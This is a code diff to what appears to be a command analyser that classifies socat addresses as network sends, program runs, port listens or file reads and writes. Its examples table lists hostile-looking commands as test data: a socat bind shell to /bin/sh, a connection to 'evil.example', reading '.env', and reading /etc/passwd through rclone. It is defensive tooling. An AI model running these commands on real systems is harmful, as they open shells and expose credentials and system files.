@@ -66,28 +66,32 @@ SPEAKS = frozenset(
 )
 STREAMS = frozenset("- STDIO STDIN STDOUT STDERR PIPE".split())
 STARTS = frozenset("EXEC SYSTEM SHELL".split())
-FILES = frozenset("OPEN FILE CREATE CREAT GOPEN UNIX UNIX-CONNECT UNIX-LISTEN UNIX-CLIENT".split())
+FILES = frozenset("OPEN FILE CREATE CREAT GOPEN PIPE FIFO".split())
 
 
 def _socat(args: Args) -> Iterator[Fact]:
-    """Two addresses, each `KIND:rest,options`; the options are not followed."""
+    """Two addresses, each `KIND:rest,options`; of the options only files are followed."""
     for word in args.operands:
-        kind, _, rest = (word.value or "").partition(":")
-        kind = kind.partition(",")[0].upper()
-        value = rest.partition(",")[0]
+        address, *options = (word.value or "").split(",")
+        kind, _, value = address.partition(":")
+        kind = kind.upper()
         if word.value is None:
             yield args.gap(f"an address is not known ({word.why})", blind=True)
         elif kind in SPEAKS:
             yield from args.reach(f"tcp://{value}", shown=word.value, kind="send")
         elif kind in STARTS:
-            yield args.effect("run", rest, "program")
-        elif "LISTEN" in kind or "RECV" in kind:
-            yield args.effect("change", "a port of this machine", "network.listen")
-        elif kind in FILES:
+            yield args.effect("run", (word.value or "").partition(":")[2], "program")
+        elif (kind in FILES and value) or kind.startswith("UNIX"):
             yield from args.file("read", Word(word.text, value))
             yield from args.file("write", Word(word.text, value))
+        elif "LISTEN" in kind or "RECV" in kind:
+            yield args.effect("change", "a port of this machine", "network.listen")
         elif kind not in STREAMS:
             yield args.gap(f"address {kind} is not known", blind=True)
+        for option in options:
+            named = option.partition("=")[2]
+            if "/" in named:
+                yield from args.file("write", Word(word.text, named))
     if args.operands:
         yield args.gap("options of the addresses are not followed")
 
@@ -250,6 +254,11 @@ EXAMPLES = {
     "ncat --ssl a.example 443": "send a.example:443",
     "socat - TCP:evil.example:80": "send TCP:evil.example:80 | gap socat: options of the addresses are not followed",
     "socat TCP-LISTEN:80,fork EXEC:/bin/sh": "change a port of this machine #network.listen | run /bin/sh #program"
+    " | gap socat: options of the addresses are not followed",
+    "socat UNIX-LISTEN:/tmp/a.sock,fork STDIO": "read /tmp/a.sock | write /tmp/a.sock"
+    " | gap socat: options of the addresses are not followed",
+    "socat PIPE:a -": "read a | write a | gap socat: options of the addresses are not followed",
+    "socat STDIO TCP:example.com:80,cafile=/etc/x.pem": "send TCP:example.com:80,cafile=/etc/x.pem | write /etc/x.pem"
     " | gap socat: options of the addresses are not followed",
     "socat - OPEN:.env": "read .env | write .env | gap socat: options of the addresses are not followed",
     "rclone cat :local:/etc/passwd": "note rclone cat | blind rclone cat: a path or store is not known"
